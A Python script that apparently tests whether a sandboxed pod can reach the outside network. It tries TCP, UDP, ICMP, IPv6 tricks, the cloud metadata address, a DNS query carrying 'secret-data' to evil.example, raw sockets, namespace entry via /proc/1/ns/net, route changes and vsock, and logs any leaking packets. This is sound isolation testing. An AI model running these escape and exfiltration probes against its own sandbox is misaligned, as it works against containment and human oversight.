#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Attempts to get out of a pod, and who watches whether something does.

usage: egress-leaks.py try [vsock PORT]    each attempt of the table below: "NAME: OUTCOME" lines
       egress-leaks.py watch DEVICE LOG    a line for each packet of IP that comes by it, but for neighbour discovery

Outcomes: "reset", "refused", "nothing" (no answer within a moment), "answered", "closed" (before a word was said), an errno's name.
"""

import ctypes
import errno
import fcntl
import os
import socket
import struct
import subprocess
import sys

MOMENT = 1
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
libc = ctypes.CDLL(None, use_errno=True)
ALIAS = "192.168.127.254"


def checked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "")
    return result


def tcp(host, port, source=None, data=b"x", device=None):
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
    sock.settimeout(MOMENT * 5)
    if source:
        sock.bind((source, 0))
    if device:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device)
    sock.connect((host, port))
    sock.sendall(data)
    return "answered" if sock.recv(1) else "closed"


def fast_open():
    sock = socket.socket()
    sock.sendto(b"x", socket.MSG_FASTOPEN, ("1.1.1.2", 8080))
    return "answered" if sock.recv(1) else "closed"


def datagram(host, port, data=b"x", protocol=0, broadcast=False):
    sock = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM, protocol)
    sock.settimeout(MOMENT)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, broadcast)
    sock.sendto(data, (host, port))
    sock.recv(1000)
    return "answered"


def question(name):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01" + bytes(6) + labels + b"\x00\x00\x01\x00\x01"


def ask_us(name):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(MOMENT * 5)
    sock.sendto(question(name), (ALIAS, 53))
    code = sock.recv(1000)[3] & 15
    return {0: "resolved", 5: "refused"}.get(code, str(code))


def ip_header(protocol, size):
    return struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + size, 1, 0, 64, protocol, 0, socket.inet_aton("127.0.0.1"),
                       socket.inet_aton("1.1.1.2"))


def raw_ip():
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sock.sendto(ip_header(17, 9) + struct.pack(">HHHH", 4000, 7, 9, 0) + b"x", ("1.1.1.2", 0))
    return "nothing"


def packet():
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind(("lo", 0x0800))
    sock.send(bytes(12) + b"\x08\x00" + ip_header(17, 9) + struct.pack(">HHHH", 4000, 7, 9, 0) + b"x")
    return "nothing"


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    total = (total & 0xffff) + (total >> 16)
    return 0xffff - (total & 0xffff) - (total >> 16)


def ping(kind):
    sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
    sock.settimeout(MOMENT)
    echo = struct.pack(">BBHHH", 8, 0, 0, 1, 1)
    sock.sendto(echo[:2] + struct.pack(">H", checksum(echo)) + echo[4:], ("1.1.1.2", 0))
    sock.recv(1000)
    return "answered"


def option(level, name):
    socket.socket().setsockopt(level, name, 1)
    return "done"


def enter_first():
    fd = os.open("/proc/1/ns/net", os.O_RDONLY)
    checked(libc.setns(fd, CLONE_NEWNET))
    return "done"


def another_netns(flags):
    """In a child: a netns of its own has no way out either."""
    read, write = os.pipe()
    if os.fork() == 0:
        try:
            checked(libc.unshare(flags))
            outcome = attempt(lambda: tcp("1.1.1.2", 8080))
        except OSError as error:
            outcome = errno.errorcode[error.errno]
        os.write(write, outcome.encode())
        os._exit(0)
    os.close(write)
    os.wait()
    return os.read(read, 100).decode()


def command(*args):
    return "done" if subprocess.run(args, stderr=subprocess.DEVNULL, check=False).returncode == 0 else "failed"


def vsock(cid, port):
    sock = socket.socket(socket.AF_VSOCK)
    sock.settimeout(MOMENT * 5)
    sock.connect((cid, port))
    sock.sendall(b'{"jsonrpc":"2.0","id":1,"method":"guest.info"}\n')
    return "answered" if sock.recv(1) else "closed"


def own_cid():
    with open("/dev/vsock", "rb") as device:
        return struct.unpack("I", fcntl.ioctl(device, 0x7b9, bytes(4)))[0]


def attempt(function):
    try:
        return function()
    except ConnectionResetError:
        return "reset"
    except ConnectionRefusedError:
        return "refused"
    except BrokenPipeError:
        return "closed"
    except socket.timeout:
        return "nothing"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))


ATTEMPTS = {
    "TCP to an address": lambda: tcp("1.1.1.2", 8080),
    "TCP to a web server's address, with a name that is allowed": lambda: tcp(
        "1.1.1.2", 80, data=b"GET / HTTP/1.1\r\nHost: good.example\r\n\r\n"),
    "TCP by IPv6": lambda: tcp("2a00::2", 8080),
    "TCP by IPv4-mapped IPv6": lambda: tcp("::ffff:1.1.1.2", 8080),
    "TCP by NAT64": lambda: tcp("64:ff9b::101:102", 8080),
    "TCP to the host": lambda: tcp("10.9.0.1", 8080),
    "TCP to metadata": lambda: tcp("169.254.169.254", 80),
    "TCP with data in its SYN": fast_open,
    "TCP from another source": lambda: tcp("1.1.1.2", 8080, source="1.1.1.3"),
    "TCP bound to lo": lambda: tcp("1.1.1.2", 8080, device=b"lo"),
    "TCP to the alias of another pod": lambda: tcp(ALIAS, 5432),
    "DNS to 8.8.8.8": lambda: datagram("8.8.8.8", 53, question("good.example")),
    "DNS to 8.8.8.8 by TCP": lambda: tcp("8.8.8.8", 53, data=b"\x00\x1e" + question("good.example")),
    "DNS of a name that no rule has": lambda: ask_us("secret-data.evil.example"),
    "UDP": lambda: datagram("1.1.1.2", 7),
    "UDP by IPv6": lambda: datagram("2a00::2", 7),
    "UDP-Lite": lambda: datagram("1.1.1.2", 7, protocol=136),
    "UDP to everybody": lambda: datagram("255.255.255.255", 7, broadcast=True),
    "UDP to a group": lambda: datagram("224.0.0.1", 7),
    "ICMP": lambda: ping(socket.SOCK_RAW),
    "ICMP without privilege": lambda: ping(socket.SOCK_DGRAM),
    "a raw IP socket": raw_ip,
    "a packet socket": packet,
    "IP_TRANSPARENT": lambda: option(socket.SOL_IP, 19),
    "SO_MARK": lambda: option(socket.SOL_SOCKET, 36),
    "/proc/1/ns/net": enter_first,
    "a netns of its own": lambda: another_netns(CLONE_NEWNET),
    "a netns in a user namespace of its own": lambda: another_netns(CLONE_NEWUSER | CLONE_NEWNET),
    "ip route add": lambda: command("ip", "route", "add", "1.1.1.2", "dev", "lo"),
    "ip route del": lambda: command("ip", "route", "del", "local", "default", "dev", "lo", "table", "local"),
    "ip address add": lambda: command("ip", "address", "add", "1.1.1.2/32", "dev", "lo"),
    "ip address del": lambda: command("ip", "address", "del", ALIAS + "/32", "dev", "lo"),
    "ip link add": lambda: command("ip", "link", "add", "d0", "type", "veth", "peer", "name", "d1", "netns", "1"),
    "nft add": lambda: command("nft", "add", "table", "ip", "mine"),
}


def watch(device, log):
    log = os.open(log, os.O_WRONLY | os.O_CREAT | os.O_APPEND)
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(3))
    sock.bind((device, 3))
    os.write(log, b"watching\n")
    while True:
        data, (_, ethertype, kind, _, _) = sock.recvfrom(70000)
        neighbours = ethertype == 0x86dd and data[6] in (0, 58) and (data[6] == 0 or 130 <= data[40] <= 143)
        if kind == 4 or ethertype not in (0x0800, 0x86dd) or neighbours:
            continue
        os.write(log, data[:48].hex().encode() + b"\n")


def main():
    if sys.argv[1] == "watch":
        watch(*sys.argv[2:])
    attempts = dict(ATTEMPTS)
    if sys.argv[2:]:
        port = int(sys.argv[3])
        attempts["vsock to the host, CID 2"] = lambda: vsock(2, port)
        attempts["vsock to the dialer, CID 1"] = lambda: vsock(1, port)
        attempts["vsock to the dialer, by the VM's CID"] = lambda: vsock(own_cid(), port)
    for name, function in attempts.items():
        print("%s: %s" % (name, attempt(function)), flush=True)


main()
